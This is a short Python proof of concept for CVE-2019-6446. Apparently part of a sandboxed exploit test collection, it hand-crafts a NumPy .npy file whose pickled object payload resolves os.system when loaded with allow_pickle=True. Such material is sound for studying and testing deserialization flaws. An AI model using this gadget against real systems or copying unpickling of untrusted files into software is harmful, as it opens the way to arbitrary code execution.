# aim: have an array file run code
# mechanism: numpy.load with allow_pickle of bytes made by hand
# source: CVE-2019-6446
# language: view
# reason: load reads files and unpickles
# jail: process
# plain: loot
# imports: numpy
import io, numpy
header = b"{'descr': '|O', 'fortran_order': False, 'shape': (), }".ljust(117) + b"\n"
pickled = b"cos\nsystem\n."
data = b"\x93NUMPY\x01\x00" + len(header).to_bytes(2, "little") + header + pickled
loot(numpy.load(io.BytesIO(data), allow_pickle=True))
